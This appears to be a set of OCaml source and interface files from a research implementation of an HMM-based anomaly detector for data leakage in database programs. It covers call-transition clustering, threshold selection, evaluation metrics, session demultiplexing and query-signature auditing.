    Array.iteri (fun i o -> Symbol.Table.replace obs_index o i) alphabet;
    Ok
      {
        Profile.params;
        alphabet;
        obs_index;
        model;
        threshold;
        clustering;
        known_pairs;
        csds_history = [];
        rounds_run = 0;
      }
  with
  | Bad msg -> Error msg
  | Failure msg -> Error msg
  | Invalid_argument msg -> Error msg

let save p path =
  let oc = open_out_bin path in
  output_string oc (to_string p);
  close_out oc

let load path =
  match open_in_bin path with
  | ic ->
      let n = in_channel_length ic in
      let text = really_input_string ic n in
      close_in ic;
      of_string text
  | exception Sys_error msg -> Error msg

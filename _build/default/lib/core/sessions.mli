(** Multi-session monitoring.

    A deployed Calls Collector sees one event stream per monitored
    process; naively concatenating or interleaving concurrent sessions
    would manufacture call transitions that no single program run ever
    produced. This module simulates the operational setting: interleave
    per-session traces into one host stream (tagged with session ids,
    like the PID Dyninst reports) and demultiplex back before windowing.

    The [interleaved-sessions] bench shows why this matters: windows cut
    from the raw host stream alarm on perfectly normal activity, while
    demultiplexed windows do not. *)

type tagged = { session : int; event : Runtime.Collector.event }

val interleave :
  rng:Mlkit.Rng.t -> Runtime.Collector.trace list -> tagged array
(** Merge traces into one host stream: at each step an event is drawn
    from a uniformly chosen session that still has events (order within
    each session is preserved). *)

val demux : tagged array -> (int * Runtime.Collector.trace) list
(** Recover the per-session traces, in ascending session order. *)

val windows_naive : ?window:int -> tagged array -> Window.t list
(** Windows cut straight from the host stream, ignoring session
    boundaries — what a session-unaware monitor would score. *)

val windows_per_session : ?window:int -> tagged array -> Window.t list
(** Demultiplex, then window each session separately — the correct
    monitoring discipline. *)

module Symbol = Analysis.Symbol
module Ctm = Analysis.Ctm
module Matrix = Mlkit.Matrix

type clustering = {
  sites : Symbol.t array;
  assignment : int array;
  states : int;
  reduced : bool;
}

let ctv_matrix pctm =
  let sites = Array.of_list (Ctm.calls pctm) in
  let n = Array.length sites in
  let dim = 2 * (n + 1) in
  let matrix =
    Matrix.init n dim (fun i j ->
        let c = sites.(i) in
        if j = 0 then Ctm.get pctm c Symbol.Exit
        else if j <= n then Ctm.get pctm c sites.(j - 1)
        else if j = n + 1 then Ctm.get pctm Symbol.Entry c
        else Ctm.get pctm sites.(j - n - 2) c)
  in
  (sites, matrix)

let cluster ~rng ~max_states ~cluster_fraction ~pca_variance pctm =
  let sites, ctvs = ctv_matrix pctm in
  let n = Array.length sites in
  if n = 0 then { sites; assignment = [||]; states = 0; reduced = false }
  else if n <= max_states then
    { sites; assignment = Array.init n (fun i -> i); states = n; reduced = false }
  else begin
    let _, projected = Mlkit.Pca.fit_transform ~variance_kept:pca_variance ctvs in
    let k = max 2 (int_of_float (cluster_fraction *. float_of_int n)) in
    let result = Mlkit.Kmeans.cluster ~rng ~k projected in
    let states, _ = Matrix.dims result.Mlkit.Kmeans.centroids in
    { sites; assignment = result.Mlkit.Kmeans.assignment; states; reduced = true }
  end

let site_flow pctm site = Ctm.column_sum pctm site

let smoothing = 1e-6

let normalize_row row =
  let k = Array.length row in
  let s = Array.fold_left ( +. ) 0.0 row in
  if s <= 0.0 then Array.make k (1.0 /. float_of_int k)
  else
    let denom = s +. (smoothing *. float_of_int k) in
    Array.map (fun v -> (v +. smoothing) /. denom) row

let init_hmm pctm clustering ~alphabet =
  let n = clustering.states in
  let m = Array.length alphabet in
  if n = 0 || m = 0 then invalid_arg "Reduction.init_hmm: empty model";
  let site_state = Hashtbl.create 64 in
  Array.iteri
    (fun i site -> Hashtbl.replace site_state site clustering.assignment.(i))
    clustering.sites;
  let obs_index = Symbol.Table.create 64 in
  Array.iteri (fun i o -> Symbol.Table.replace obs_index o i) alphabet;
  let a_acc = Array.make_matrix n n 0.0 in
  let b_acc = Array.make_matrix n m 0.0 in
  let pi_acc = Array.make n 0.0 in
  Ctm.iter
    (fun x y v ->
      match (Hashtbl.find_opt site_state x, Hashtbl.find_opt site_state y) with
      | Some sx, Some sy -> a_acc.(sx).(sy) <- a_acc.(sx).(sy) +. v
      | Some _, None | None, Some _ | None, None -> ())
    pctm;
  Array.iter
    (fun site ->
      match Hashtbl.find_opt site_state site with
      | None -> ()
      | Some s ->
          let flow = site_flow pctm site in
          pi_acc.(s) <- pi_acc.(s) +. flow;
          let o =
            match Symbol.Table.find_opt obs_index (Symbol.observable site) with
            | Some o -> o
            | None -> -1
          in
          if o >= 0 then b_acc.(s).(o) <- b_acc.(s).(o) +. Float.max flow smoothing)
    clustering.sites;
  Hmm.create
    ~a:(Matrix.of_arrays (Array.map normalize_row a_acc))
    ~b:(Matrix.of_arrays (Array.map normalize_row b_acc))
    ~pi:(normalize_row pi_acc)

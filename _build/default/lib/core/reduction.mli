(** Hidden-state reduction and HMM initialization (Sec. IV-C4).

    One hidden state per call site would be wasteful for large programs,
    so call sites with similar call-transition vectors (CTVs) are merged:
    CTV extraction → PCA → k-means, exactly the paper's reduction
    pipeline. The clustering then seeds the HMM: transition matrix [A]
    from the pCTM aggregated by cluster, emissions [B] from each
    cluster's member sites (weighted by their flow), and [pi] from the
    per-cluster flow (windows can start anywhere in a run). *)

type clustering = {
  sites : Analysis.Symbol.t array;  (** site symbols of the pCTM, sorted *)
  assignment : int array;  (** cluster (= hidden state) of each site *)
  states : int;
  reduced : bool;  (** did k-means actually run? *)
}

val ctv_matrix : Analysis.Ctm.t -> Analysis.Symbol.t array * Mlkit.Matrix.t
(** Call-transition vectors: row i is the CTV of site i — its outgoing
    row over (Exit + all sites) concatenated with its incoming column
    over (Entry + all sites); dimension [2 (n+1)] for [n] sites. *)

val cluster :
  rng:Mlkit.Rng.t ->
  max_states:int ->
  cluster_fraction:float ->
  pca_variance:float ->
  Analysis.Ctm.t ->
  clustering
(** Identity clustering when the site count is within [max_states]
    (the paper clusters only programs beyond ~900 states); otherwise
    PCA + k-means down to [cluster_fraction * sites] states. *)

val site_flow : Analysis.Ctm.t -> Analysis.Symbol.t -> float
(** Total probability mass flowing through a site (its inflow). *)

val init_hmm :
  Analysis.Ctm.t -> clustering -> alphabet:Analysis.Symbol.t array -> Hmm.t
(** Probability-forecast initialization of the HMM (the paper's
    alternative to random initialization). *)

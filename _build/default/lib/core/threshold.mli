(** Detection-threshold selection (Sec. IV-D, "Threshold Selection").

    Scores are per-symbol average log-probabilities of windows under the
    trained HMM; a window is flagged when its score falls {e below} the
    threshold. *)

type strategy =
  | Fixed of float
  | Min_margin of float
      (** minimum validation score minus a safety margin — the
          cross-validation method of the paper *)
  | Quantile of float
      (** the q-quantile of validation scores, e.g. [Quantile 0.001]
          tolerates one normal window in a thousand below threshold *)

val select : strategy -> float array -> float
(** [select strategy validation_scores]; scores of [neg_infinity]
    (impossible windows) are ignored. Falls back to [-1e9] when no
    finite score exists.
    @raise Invalid_argument on a [Quantile] outside [0, 1]. *)

val select_validated :
  candidates:float list ->
  normal:float array ->
  anomalous:float array ->
  float
(** The paper's first method verbatim: "perform cross validation during
    the training phase using a set of predefined thresholds. Then, the
    value that achieves the best validation result is set to be the
    detector's threshold" — best = highest accuracy over the labeled
    validation scores (ties broken toward the lower threshold, i.e.
    fewer false positives).
    @raise Invalid_argument when [candidates] is empty. *)

val adaptive : current:float -> recent_fp_rate:float -> target_fp_rate:float -> float
(** One step of the adaptive-threshold scheme sketched in the paper: if
    the recent false-positive rate exceeds the target, lower the
    threshold by 10%% of its magnitude; if it is well below target,
    raise it slightly. *)

let float_cell ?(digits = 4) v =
  if v = neg_infinity then "-inf"
  else if v = infinity then "+inf"
  else Printf.sprintf "%.*f" digits v

let percent_cell v = Printf.sprintf "%.2f%%" (100.0 *. v)

let table ?title ~header rows =
  let columns = List.length header in
  let cell row i = match List.nth_opt row i with Some c -> c | None -> "" in
  let width i =
    List.fold_left
      (fun acc row -> max acc (String.length (cell row i)))
      (String.length (List.nth header i))
      rows
  in
  let widths = List.init columns width in
  let render_row row =
    String.concat "  "
      (List.mapi (fun i w -> Printf.sprintf "%-*s" w (cell row i)) widths)
  in
  let rule =
    String.concat "--" (List.map (fun w -> String.make w '-') widths)
  in
  let buf = Buffer.create 256 in
  (match title with
  | Some t ->
      Buffer.add_string buf t;
      Buffer.add_char buf '\n'
  | None -> ());
  Buffer.add_string buf (render_row header);
  Buffer.add_char buf '\n';
  Buffer.add_string buf rule;
  Buffer.add_char buf '\n';
  List.iter
    (fun row ->
      Buffer.add_string buf (render_row row);
      Buffer.add_char buf '\n')
    rows;
  Buffer.contents buf

let print ?title ~header rows = print_string (table ?title ~header rows)

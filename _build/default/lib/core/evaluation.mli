(** Accuracy metrics (Sec. V-D): confusion matrix, rates, and the
    FP-vs-FN curves of Fig. 10, plus k-fold utilities. *)

type confusion = { tp : int; tn : int; fp : int; fn : int }

val empty : confusion
val merge : confusion -> confusion -> confusion

val observe : confusion -> anomalous:bool -> flagged:bool -> confusion
(** Update with one window: [anomalous] is the ground truth, [flagged]
    the detector's verdict. *)

val fp_rate : confusion -> float
(** [FP / (FP + TN)]; 0 when undefined. *)

val fn_rate : confusion -> float
val precision : confusion -> float
val recall : confusion -> float
val accuracy : confusion -> float
val total : confusion -> int

val curve :
  normal_scores:float array ->
  anomalous_scores:float array ->
  thresholds:float array ->
  (float * float * float) list
(** For each threshold [t]: [(t, fp_rate, fn_rate)] where a score below
    [t] is flagged. The Fig. 10 series. *)

val sweep_thresholds : normal_scores:float array -> anomalous_scores:float array -> int -> float array
(** Evenly spaced thresholds covering the finite score range of both
    populations (with a small outward margin), for {!curve}. *)

val kfold : k:int -> 'a list -> ('a list * 'a list) list
(** [kfold ~k xs]: k (train, validation) splits by round-robin
    assignment. @raise Invalid_argument if [k < 2]. *)

val pp : Format.formatter -> confusion -> unit

(** Plain-text table rendering for the benchmark harness and examples,
    matching the row/column layout of the paper's tables. *)

val table : ?title:string -> header:string list -> string list list -> string
(** Fixed-width table with a header rule. Rows may be ragged; missing
    cells render empty. *)

val print : ?title:string -> header:string list -> string list list -> unit

val float_cell : ?digits:int -> float -> string
(** Compact float formatting (default 4 digits); [neg_infinity] renders
    as ["-inf"]. *)

val percent_cell : float -> string
(** [0.783] -> ["78.30%"]. *)

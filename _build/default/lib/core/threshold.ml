type strategy =
  | Fixed of float
  | Min_margin of float
  | Quantile of float

let finite scores =
  Array.of_list (List.filter Float.is_finite (Array.to_list scores))

let select strategy validation_scores =
  match strategy with
  | Fixed t -> t
  | Min_margin margin ->
      let xs = finite validation_scores in
      if Array.length xs = 0 then -1e9
      else
        let lo, _ = Mlkit.Stats.min_max xs in
        lo -. margin
  | Quantile q ->
      if q < 0.0 || q > 1.0 then invalid_arg "Threshold.select: quantile out of range";
      let xs = finite validation_scores in
      if Array.length xs = 0 then -1e9 else Mlkit.Stats.quantile xs q

let select_validated ~candidates ~normal ~anomalous =
  if candidates = [] then invalid_arg "Threshold.select_validated: no candidates";
  let accuracy t =
    let flagged s = s < t in
    let tp = Array.fold_left (fun acc s -> if flagged s then acc + 1 else acc) 0 anomalous in
    let tn = Array.fold_left (fun acc s -> if flagged s then acc else acc + 1) 0 normal in
    float_of_int (tp + tn)
    /. float_of_int (max 1 (Array.length normal + Array.length anomalous))
  in
  let best =
    List.fold_left
      (fun (bt, ba) t ->
        let a = accuracy t in
        if a > ba +. 1e-12 || (Float.abs (a -. ba) <= 1e-12 && t < bt) then (t, a) else (bt, ba))
      (List.hd candidates, accuracy (List.hd candidates))
      (List.tl candidates)
  in
  fst best

let adaptive ~current ~recent_fp_rate ~target_fp_rate =
  let magnitude = Float.max 1.0 (Float.abs current) in
  if recent_fp_rate > target_fp_rate then current -. (0.1 *. magnitude)
  else if recent_fp_rate < target_fp_rate /. 2.0 then current +. (0.02 *. magnitude)
  else current

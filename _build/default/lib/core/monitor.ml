type t = {
  profile : Profile.t;
  target_fp_rate : float;
  adjust_every : int;
  mutable current_threshold : float;
  mutable seen : int;  (** windows since the last adjustment *)
  mutable confirmed_fp : int;  (** admin-confirmed false alarms since then *)
  mutable total_seen : int;
  mutable total_alarms : int;
}

let create ?(target_fp_rate = 0.01) ?(adjust_every = 200) profile =
  {
    profile;
    target_fp_rate;
    adjust_every;
    current_threshold = profile.Profile.threshold;
    seen = 0;
    confirmed_fp = 0;
    total_seen = 0;
    total_alarms = 0;
  }

let threshold t = t.current_threshold

let maybe_adapt t =
  if t.seen >= t.adjust_every then begin
    let recent_fp_rate = float_of_int t.confirmed_fp /. float_of_int t.seen in
    t.current_threshold <-
      Threshold.adaptive ~current:t.current_threshold ~recent_fp_rate
        ~target_fp_rate:t.target_fp_rate;
    t.seen <- 0;
    t.confirmed_fp <- 0
  end

let classify t window =
  let profile = { t.profile with Profile.threshold = t.current_threshold } in
  let verdict = Detector.classify profile window in
  t.seen <- t.seen + 1;
  t.total_seen <- t.total_seen + 1;
  if verdict.Detector.flag <> Detector.Normal then t.total_alarms <- t.total_alarms + 1;
  maybe_adapt t;
  verdict

let monitor_trace t trace =
  List.map
    (fun w -> (w, classify t w))
    (Window.of_trace ~window:t.profile.Profile.params.Profile.window trace)

let report_false_positive t = t.confirmed_fp <- t.confirmed_fp + 1

let windows_seen t = t.total_seen
let alarms_raised t = t.total_alarms

(** Query-signature profiles — the Sec. VII mitigation for attacks that
    leave the call sequence intact: "recording queries signatures along
    with library calls can mitigate this case".

    A signature is the literal-erased canonical form of a statement
    ({!Sqldb.Sql_pp.signature}); the profile is the set of signatures
    observed during training. Unparseable texts get the distinguished
    signature ["<malformed>"] — if training never produced one, a
    malformed query (e.g. a clumsy injection) is itself anomalous. *)

type t

val empty : t

val learn : t -> string -> t
(** Add the signature of one raw SQL text. *)

val learn_run : t -> string list -> t

val of_runs : string list list -> t
(** Profile from the query logs of all training runs. *)

val known : t -> string -> bool
(** Is this raw SQL's signature in the profile? *)

val unknown_in_run : t -> string list -> string list
(** Signatures of the run not present in the profile, deduplicated, in
    first-appearance order. *)

val signatures : t -> string list
(** Sorted list of learned signatures. *)

val cardinality : t -> int

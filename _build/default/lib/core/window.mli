(** n-length call sequences (Sec. IV-D): the unit the Detection Engine
    scores. A window keeps both the observation symbols and the callers
    that issued them, so the detector can raise the out-of-context flag
    for calls issued from unexpected functions. *)

type t = {
  obs : Analysis.Symbol.t array;  (** observable symbols (site-free) *)
  callers : string array;
}

val of_trace : ?window:int -> Runtime.Collector.trace -> t list
(** Sliding windows of length [window] (default 15), stride 1. A trace
    shorter than [window] yields a single window with the whole trace;
    an empty trace yields nothing. *)

val strip_labels : t -> t
(** Project away DB-output labels (the CMarkov baseline's view). *)

val dedup : t list -> (t * float) list
(** Deduplicate identical windows, returning multiplicities as weights.
    Order of first occurrence is preserved. *)

val encode : index:(Analysis.Symbol.t -> int option) -> t -> int array option
(** Map symbols to alphabet indices; [None] if any symbol is unknown. *)

val contains_labeled_output : t -> bool
(** Does the window contain a DB-output (labeled) call — the condition
    for the DL flag? *)

val pairs : t -> (string * Analysis.Symbol.t) list
(** (caller, observable) pairs of the window. *)

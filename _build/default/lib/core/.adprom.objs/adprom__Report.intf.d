lib/core/report.mli:

lib/core/evaluation.ml: Array Float Format List Mlkit

lib/core/qsig.mli:

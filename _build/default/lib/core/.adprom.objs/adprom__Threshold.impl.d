lib/core/threshold.ml: Array Float List Mlkit

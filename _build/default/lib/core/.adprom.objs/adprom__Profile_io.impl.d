lib/core/profile_io.ml: Analysis Array Buffer Float Hashtbl Hmm List Mlkit Printf Profile Reduction String

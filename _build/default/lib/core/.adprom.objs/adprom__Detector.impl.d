lib/core/detector.ml: Analysis Array Hmm List Profile Window

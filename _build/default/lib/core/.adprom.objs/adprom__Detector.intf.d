lib/core/detector.mli: Analysis Profile Runtime Window

lib/core/profile.ml: Analysis Array Float Hashtbl Hmm List Mlkit Reduction String Threshold Window

lib/core/audit.ml: List Printf Qsig Runtime String

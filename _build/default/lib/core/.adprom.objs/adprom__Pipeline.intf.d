lib/core/pipeline.mli: Analysis Profile Runtime Sqldb Window

lib/core/window.mli: Analysis Runtime

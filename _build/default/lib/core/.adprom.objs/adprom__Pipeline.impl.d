lib/core/pipeline.ml: Analysis Applang List Profile Runtime Sqldb Window

lib/core/monitor.ml: Detector List Profile Threshold Window

lib/core/threshold.mli:

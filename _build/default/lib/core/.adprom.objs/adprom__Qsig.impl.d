lib/core/qsig.ml: Hashtbl List Set Sqldb String

lib/core/profile.mli: Analysis Hashtbl Hmm Reduction Threshold Window

lib/core/monitor.mli: Detector Profile Runtime Window

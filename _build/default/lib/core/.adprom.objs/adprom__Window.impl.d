lib/core/window.ml: Analysis Array Hashtbl List Runtime

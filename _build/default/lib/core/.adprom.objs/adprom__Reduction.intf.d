lib/core/reduction.mli: Analysis Hmm Mlkit

lib/core/audit.mli: Qsig Runtime

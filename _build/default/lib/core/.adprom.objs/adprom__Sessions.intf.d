lib/core/sessions.mli: Mlkit Runtime Window

lib/core/evaluation.mli: Format

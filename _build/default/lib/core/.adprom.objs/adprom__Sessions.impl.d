lib/core/sessions.ml: Array Hashtbl List Mlkit Runtime Window

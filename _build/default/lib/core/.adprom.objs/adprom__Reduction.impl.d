lib/core/reduction.ml: Analysis Array Float Hashtbl Hmm Mlkit

(** Complementary run-level auditing (the mitigations of Sec. VII).

    The HMM detector sees call {e sequences}; two leakage channels it
    cannot see are covered here:

    - queries whose structure changed while the call sequence did not
      (mitigated by query-signature profiles, {!Qsig});
    - targeted data staged into a file and then exfiltrated by a shell
      command (mitigated by file labeling: the interpreter marks files
      that received tainted data, and any [system] command mentioning a
      labeled file is reported). *)

type finding =
  | Unknown_query_signature of string
      (** a query signature never seen in training *)
  | Tainted_file_command of { path : string; command : string }
      (** a [system] command touching a file that holds targeted data *)

val learn : Runtime.Interp.outcome list -> Qsig.t
(** Query-signature profile from the training runs' outcomes. *)

val audit : qsig:Qsig.t -> Runtime.Interp.outcome -> finding list
(** Findings for one monitored run. *)

val finding_to_string : finding -> string

type tagged = { session : int; event : Runtime.Collector.event }

let interleave ~rng traces =
  let queues = Array.of_list (List.map (fun t -> (ref 0, t)) traces) in
  let live () =
    let alive = ref [] in
    Array.iteri
      (fun i (pos, t) -> if !pos < Array.length t then alive := i :: !alive)
      queues;
    !alive
  in
  let out = ref [] in
  let rec loop () =
    match live () with
    | [] -> ()
    | alive ->
        let arr = Array.of_list alive in
        let i = arr.(Mlkit.Rng.int rng (Array.length arr)) in
        let pos, t = queues.(i) in
        out := { session = i; event = t.(!pos) } :: !out;
        incr pos;
        loop ()
  in
  loop ();
  Array.of_list (List.rev !out)

let demux tagged =
  let buckets = Hashtbl.create 8 in
  Array.iter
    (fun t ->
      let cur = match Hashtbl.find_opt buckets t.session with Some l -> l | None -> [] in
      Hashtbl.replace buckets t.session (t.event :: cur))
    tagged;
  Hashtbl.fold (fun s events acc -> (s, Array.of_list (List.rev events)) :: acc) buckets []
  |> List.sort (fun (a, _) (b, _) -> compare a b)

let windows_naive ?window tagged =
  Window.of_trace ?window (Array.map (fun t -> t.event) tagged)

let windows_per_session ?window tagged =
  List.concat_map (fun (_, trace) -> Window.of_trace ?window trace) (demux tagged)

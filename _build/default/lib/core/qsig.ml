module SS = Set.Make (String)

type t = SS.t

let empty = SS.empty

let signature_of sql =
  match Sqldb.Sql_pp.signature_of_sql sql with
  | Some s -> s
  | None -> "<malformed>"

let learn t sql = SS.add (signature_of sql) t

let learn_run t queries = List.fold_left learn t queries

let of_runs runs = List.fold_left learn_run empty runs

let known t sql = SS.mem (signature_of sql) t

let unknown_in_run t queries =
  let seen = Hashtbl.create 8 in
  List.filter_map
    (fun sql ->
      let s = signature_of sql in
      if SS.mem s t || Hashtbl.mem seen s then None
      else begin
        Hashtbl.replace seen s ();
        Some s
      end)
    queries

let signatures t = SS.elements t

let cardinality t = SS.cardinal t

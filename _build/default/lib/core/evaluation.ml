type confusion = { tp : int; tn : int; fp : int; fn : int }

let empty = { tp = 0; tn = 0; fp = 0; fn = 0 }

let merge a b = { tp = a.tp + b.tp; tn = a.tn + b.tn; fp = a.fp + b.fp; fn = a.fn + b.fn }

let observe c ~anomalous ~flagged =
  match (anomalous, flagged) with
  | true, true -> { c with tp = c.tp + 1 }
  | true, false -> { c with fn = c.fn + 1 }
  | false, true -> { c with fp = c.fp + 1 }
  | false, false -> { c with tn = c.tn + 1 }

let ratio num denom = if denom = 0 then 0.0 else float_of_int num /. float_of_int denom

let fp_rate c = ratio c.fp (c.fp + c.tn)
let fn_rate c = ratio c.fn (c.fn + c.tp)
let precision c = ratio c.tp (c.tp + c.fp)
let recall c = ratio c.tp (c.tp + c.fn)
let accuracy c = ratio (c.tp + c.tn) (c.tp + c.tn + c.fp + c.fn)
let total c = c.tp + c.tn + c.fp + c.fn

let curve ~normal_scores ~anomalous_scores ~thresholds =
  let flagged_below t scores =
    Array.fold_left (fun acc s -> if s < t then acc + 1 else acc) 0 scores
  in
  Array.to_list thresholds
  |> List.map (fun t ->
         let fp = flagged_below t normal_scores in
         let tn = Array.length normal_scores - fp in
         let tp = flagged_below t anomalous_scores in
         let fn = Array.length anomalous_scores - tp in
         let c = { tp; tn; fp; fn } in
         (t, fp_rate c, fn_rate c))

let sweep_thresholds ~normal_scores ~anomalous_scores count =
  let finite =
    Array.of_list
      (List.filter Float.is_finite
         (Array.to_list normal_scores @ Array.to_list anomalous_scores))
  in
  if Array.length finite = 0 then Array.init count (fun i -> float_of_int i)
  else
    let lo, hi = Mlkit.Stats.min_max finite in
    let span = Float.max 1e-6 (hi -. lo) in
    let lo = lo -. (0.05 *. span) and hi = hi +. (0.05 *. span) in
    Array.init count (fun i ->
        lo +. ((hi -. lo) *. float_of_int i /. float_of_int (max 1 (count - 1))))

let kfold ~k xs =
  if k < 2 then invalid_arg "Evaluation.kfold: k must be at least 2";
  let indexed = List.mapi (fun i x -> (i, x)) xs in
  List.init k (fun fold ->
      let valid = List.filter_map (fun (i, x) -> if i mod k = fold then Some x else None) indexed in
      let train = List.filter_map (fun (i, x) -> if i mod k <> fold then Some x else None) indexed in
      (train, valid))

let pp ppf c =
  Format.fprintf ppf "tp=%d tn=%d fp=%d fn=%d rec=%.3f prec=%.3f acc=%.4f" c.tp c.tn c.fp
    c.fn (recall c) (precision c) (accuracy c)

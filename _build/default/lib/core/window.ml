module Symbol = Analysis.Symbol

type t = {
  obs : Symbol.t array;
  callers : string array;
}

let of_trace ?(window = 15) trace =
  let events = Array.map (fun (e : Runtime.Collector.event) -> e) trace in
  let len = Array.length events in
  let make lo n =
    {
      obs = Array.init n (fun i -> Symbol.observable events.(lo + i).Runtime.Collector.symbol);
      callers = Array.init n (fun i -> events.(lo + i).Runtime.Collector.caller);
    }
  in
  if len = 0 then []
  else if len <= window then [ make 0 len ]
  else
    let count = len - window + 1 in
    List.init count (fun lo -> make lo window)

let strip_labels w = { w with obs = Array.map Symbol.strip_label w.obs }

let dedup windows =
  let tbl = Hashtbl.create 256 in
  let order = ref [] in
  List.iter
    (fun w ->
      let key = (w.obs, w.callers) in
      match Hashtbl.find_opt tbl key with
      | Some n -> Hashtbl.replace tbl key (n +. 1.0)
      | None ->
          Hashtbl.replace tbl key 1.0;
          order := w :: !order)
    windows;
  List.rev_map (fun w -> (w, Hashtbl.find tbl (w.obs, w.callers))) !order

let encode ~index w =
  let n = Array.length w.obs in
  let out = Array.make n 0 in
  let ok = ref true in
  Array.iteri
    (fun i s ->
      match index s with
      | Some k -> out.(i) <- k
      | None -> ok := false)
    w.obs;
  if !ok && n > 0 then Some out else if n = 0 then None else None

let contains_labeled_output w = Array.exists Symbol.is_labeled w.obs

let pairs w =
  Array.to_list (Array.mapi (fun i s -> (w.callers.(i), s)) w.obs)

type request = {
  meth : string;
  path : string;
  params : (string * string) list;
}

type t = {
  name : string;
  input : string list;
  files : (string * string) list;
  requests : request list;
  seed : int;
}

let make ?(input = []) ?(files = []) ?(requests = []) ?(seed = 0) name =
  { name; input; files; requests; seed }

let get ?(params = []) path = { meth = "GET"; path; params }
let post ?(params = []) path = { meth = "POST"; path; params }

(** Trace persistence: record library-call traces on the monitored host,
    train elsewhere. One event per line: [caller<TAB>block<TAB>symbol],
    with the symbol in the same encoding as {!Adprom.Profile_io} (name,
    optional Q-label, optional site). *)

val to_string : Collector.trace -> string

val of_string : string -> (Collector.trace, string) result

val save : Collector.trace -> string -> unit

val load : string -> (Collector.trace, string) result

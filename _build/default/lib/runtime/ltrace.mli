(** Simulated ltrace collector — the heavyweight baseline of Table VI.

    ltrace intercepts every library call, stringifies its arguments,
    records the instruction pointer, and the paper's pipeline then runs
    addr2line to resolve the caller. This module reproduces those costs
    faithfully in simulation: per call it formats the full argument
    list, fabricates an address from the block id and resolves it back
    through a binary search over a symbol table, appending a formatted
    line to a log buffer. The overhead ratio against
    {!Collector.adprom} is then measured, not asserted. *)

type stats = { mutable calls : int; mutable bytes : int }

val make : symtab:(int * string) array -> Collector.t * stats * Buffer.t
(** [symtab] maps block ids to function names (sorted by id); build it
    with {!symtab_of_cfgs}. Returns the collector, counters, and the
    log buffer it writes. *)

val symtab_of_cfgs : (string * Analysis.Cfg.t) list -> (int * string) array

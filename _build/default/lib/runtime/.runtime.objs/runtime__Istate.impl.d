lib/runtime/istate.ml: Buffer Hashtbl List Mlkit Printf Sqldb Testcase

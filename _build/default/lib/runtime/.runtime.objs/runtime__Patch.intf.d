lib/runtime/patch.mli:

lib/runtime/testcase.ml:

lib/runtime/builtins.mli: Istate Rvalue

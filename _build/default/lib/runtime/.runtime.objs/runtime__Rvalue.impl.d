lib/runtime/rvalue.ml: Array Buffer Printf Sqldb String

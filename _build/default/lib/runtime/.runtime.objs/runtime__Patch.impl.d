lib/runtime/patch.ml: List

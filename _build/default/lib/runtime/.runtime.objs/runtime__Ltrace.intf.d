lib/runtime/ltrace.mli: Analysis Buffer Collector

lib/runtime/collector.mli: Analysis Format Rvalue

lib/runtime/trace_io.mli: Collector

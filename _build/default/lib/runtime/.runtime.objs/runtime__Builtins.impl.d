lib/runtime/builtins.ml: Applang Buffer Char Hashtbl Istate List Mlkit Printf Rvalue Sqldb String Testcase

lib/runtime/ltrace.ml: Analysis Array Buffer Collector List Printf Rvalue String

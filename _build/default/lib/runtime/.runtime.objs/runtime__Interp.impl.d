lib/runtime/interp.ml: Analysis Applang Array Buffer Builtins Collector Hashtbl Istate List Patch Printf Rvalue Sqldb String

lib/runtime/testcase.mli:

lib/runtime/interp.mli: Analysis Collector Patch Sqldb Testcase

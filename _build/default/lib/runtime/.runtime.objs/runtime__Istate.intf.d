lib/runtime/istate.mli: Buffer Hashtbl Mlkit Sqldb Testcase

lib/runtime/trace_io.ml: Analysis Array Buffer Collector List Printf String

lib/runtime/rvalue.mli: Buffer Sqldb

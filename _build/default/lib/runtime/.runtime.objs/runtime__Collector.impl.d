lib/runtime/collector.ml: Analysis Array Format List Rvalue

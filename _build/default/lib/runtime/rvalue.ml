type file_mode = Read | Write | Append

type file_handle = {
  path : string;
  mode : file_mode;
  mutable read_lines : string list;
  buffer : Buffer.t;
}

type base =
  | VInt of int
  | VStr of string
  | VBool of bool
  | VNull
  | VConn of Sqldb.Client.conn
  | VResult of Sqldb.Client.exec_result
  | VCursor of Sqldb.Client.cursor
  | VPrepared of Sqldb.Client.prepared
  | VRow of Sqldb.Value.t array
  | VFile of file_handle

type t = { base : base; taint : bool }

let int ?(taint = false) n = { base = VInt n; taint }
let str ?(taint = false) s = { base = VStr s; taint }
let bool b = { base = VBool b; taint = false }
let null = { base = VNull; taint = false }

let retaint taint v = { v with taint }

let truthy v =
  match v.base with
  | VBool b -> b
  | VInt n -> n <> 0
  | VNull -> false
  | VStr s -> s <> ""
  | VConn _ | VResult _ | VCursor _ | VPrepared _ | VRow _ | VFile _ -> true

let to_display v =
  match v.base with
  | VInt n -> string_of_int n
  | VStr s -> s
  | VBool true -> "true"
  | VBool false -> "false"
  | VNull -> "NULL"
  | VConn _ -> "<conn>"
  | VResult _ -> "<result>"
  | VCursor _ -> "<cursor>"
  | VPrepared _ -> "<prepared>"
  | VRow cells ->
      String.concat " " (Array.to_list (Array.map Sqldb.Value.to_string cells))
  | VFile h -> Printf.sprintf "<file:%s>" h.path

let type_name v =
  match v.base with
  | VInt _ -> "int"
  | VStr _ -> "string"
  | VBool _ -> "bool"
  | VNull -> "null"
  | VConn _ -> "conn"
  | VResult _ -> "result"
  | VCursor _ -> "cursor"
  | VPrepared _ -> "prepared"
  | VRow _ -> "row"
  | VFile _ -> "file"

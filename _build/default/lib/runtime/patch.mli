(** Binary patching, emulating Dyninst code injection (Attack 2.1 /
    Attack 4 of the paper).

    A patch injects library-call events at instrumentation points
    without touching the source program — exactly what an attacker
    rewriting the binary achieves. Patched output calls that leak
    targeted data carry the DB-output label of the block they were
    spliced into, because the dynamic data-flow instrumentation sees
    the tainted value at run time. *)

type position =
  | Before_block of int  (** fire just before block [bid] executes its call *)
  | After_block of int  (** fire just after *)
  | At_function_entry of string

type injected_call = {
  name : string;  (** library call name, e.g. ["fwrite"] *)
  leaks_td : bool;  (** the injected call outputs targeted data *)
}

type t = { position : position; calls : injected_call list }

val fires_before : t list -> int -> t list
val fires_after : t list -> int -> t list
val fires_at_entry : t list -> string -> t list

(** Test cases: the scripted inputs under which a subject program runs.

    A test case supplies the stdin lines consumed by [scanf]/[getline],
    the initial contents of the in-memory file system, and a seed for
    the program-visible RNG — everything needed to replay a run
    deterministically when deriving training traces (Sec. V-B). *)

type request = {
  meth : string;  (** "GET", "POST", ... *)
  path : string;
  params : (string * string) list;  (** query/form parameters *)
}
(** One HTTP request of a web-application test case (the paper's future
    work, Sec. VIII: applications other than desktop ones). *)

type t = {
  name : string;
  input : string list;  (** stdin lines, consumed in order *)
  files : (string * string) list;  (** path -> initial contents *)
  requests : request list;  (** HTTP requests served by a web app *)
  seed : int;
}

val make :
  ?input:string list ->
  ?files:(string * string) list ->
  ?requests:request list ->
